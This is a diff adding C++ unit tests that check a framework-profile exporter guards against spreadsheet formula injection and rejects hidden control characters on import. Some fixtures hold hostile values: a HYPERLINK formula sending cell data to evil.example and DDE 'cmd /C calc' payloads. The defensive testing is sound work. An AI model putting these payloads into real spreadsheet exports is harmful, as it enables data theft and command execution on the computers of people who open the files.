@@ -16,6 +16,7 @@
 #include "core/profile.hpp"
 #include "exchange/profile_table.hpp"
 #include "exchange/xlsx.hpp"
+#include "util/text.hpp"
 
 namespace cyberframe::exchange {
 namespace {
@@ -120,6 +121,22 @@ std::map<std::string, core::NodeAssessment> tricky_assessments() {
   auto am1 = assessment("ID.AM-1", 4);
   am1.notes = ",\"\",\r\n\r\n\"";
   add(am1);
+
+  // Text a spreadsheet would run as a formula, and apostrophes of the writer's own.
+  auto am2 = assessment("ID.AM-2", 2);
+  am2.owner = "@SUM(A1:A9)";
+  am2.notes = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+  am2.justification = "+cmd|' /C calc'!A0";
+  add(am2);
+  auto am3 = assessment("ID.AM-3", 1);
+  am3.owner = "-1";
+  am3.notes = "'already quoted";
+  am3.justification = "'=1+1";
+  add(am3);
+  auto am4 = assessment("ID.AM-4", std::nullopt);
+  am4.owner = "'";
+  am4.notes = "\t=tab first";
+  add(am4);
   return out;
 }
 
@@ -249,6 +266,60 @@ TEST(ExchangeExport, CsvHasEveryNodeInDocumentOrderWithTheReadOnlyColumns) {
   EXPECT_NE(text.find("\r\nID.BE-2,,The organization's place in critical infrastructure and its "
                       "industry sector is identified and communicated,,,,,,\r\n"),
             std::string::npos);
+}
+
+// Issue 10: a cell a spreadsheet would run as a formula is written with an apostrophe in front,
+// and only such cells (numbers stay numbers).
+TEST(ExchangeExport, CsvCellsNeverStartAFormula) {
+  auto a = assessment("ID.BE-1", 3);
+  a.owner = "@SUM(A1:A9)";
+  a.notes = "=HYPERLINK(\"http://evil.example\",\"click\")";
+  a.justification = "-2+3";
+  std::map<std::string, core::NodeAssessment> one = {{"ID.BE-1", a}};
+  auto text = export_profile(cat(), profile(), one, TableFormat::k_csv);
+  EXPECT_NE(text.find(",3,,'-2+3,'@SUM(A1:A9),2,\"'=HYPERLINK(\"\"http://"
+                      "evil.example\"\",\"\"click\"\")\"\r\n"),
+            std::string::npos)
+      << text.substr(0, 600);
+  // No cell of the file starts with a formula character, but for plain numbers.
+  auto body = text.substr(3);
+  for (std::size_t at = 0; at < body.size();) {
+    auto end = body.find("\r\n", at);
+    for (const auto& cell : util::split(body.substr(at, end - at), ',')) {
+      if (!cell.empty() && std::string_view("=+-@").find(cell[0]) != std::string_view::npos) {
+        EXPECT_EQ(cell.find_first_not_of("+-0123456789."), std::string::npos) << cell;
+      }
+    }
+    at = end + 2;
+  }
+  // A file from elsewhere with an apostrophe of its own keeps it unless a formula follows.
+  auto result = import(TableFormat::k_csv, csv("ID.BE-1,3,,,'Alice,,'=not a formula\r\n"));
+  ASSERT_TRUE(result.errors.empty()) << ::testing::PrintToString(messages(result));
+  EXPECT_EQ(result.rows[0].owner, "'Alice");
+  EXPECT_EQ(result.rows[0].notes, "=not a formula");
+}
+
+TEST(ExchangeExport, GapTableCellsNeverStartAFormula) {
+  core::GapAnalysis gaps;
+  core::Gap g;
+  g.node = "ID.BE-1";
+  g.target = 3;
+  g.gap = 3;
+  g.score = 6;
+  g.owner = "=cmd|' /C calc'!A0";
+  gaps.subcategories.push_back(g);
+  auto text = export_gaps(cat(), gaps, TableFormat::k_csv);
+  EXPECT_NE(text.find(",'=cmd|' /C calc'!A0,6\r\n"), std::string::npos) << text;
+}
+
+TEST(ExchangeCsvErrors, AnOwnerIsOneLineOfVisibleText) {
+  EXPECT_EQ(only_error(import(TableFormat::k_csv, csv("ID.BE-1,3,,,\"Ops\u202E\",,\r\n"))),
+            "row 2, column owner: the owner of ID.BE-1 contains the bidirectional control U+202E "
+            "RIGHT-TO-LEFT OVERRIDE at character 4, which can make text display as something it "
+            "is not");
+  EXPECT_EQ(only_error(import(TableFormat::k_csv, csv("ID.BE-1,3,,,\"Ops\nteam\",,\r\n"))),
+            "row 2, column owner: the owner of ID.BE-1 contains a control character (U+000A) at "
+            "character 4; it must be one line of visible text");
 }
 
 TEST(ExchangeExport, XlsxHasAFormattedHeaderAndEveryNode) {
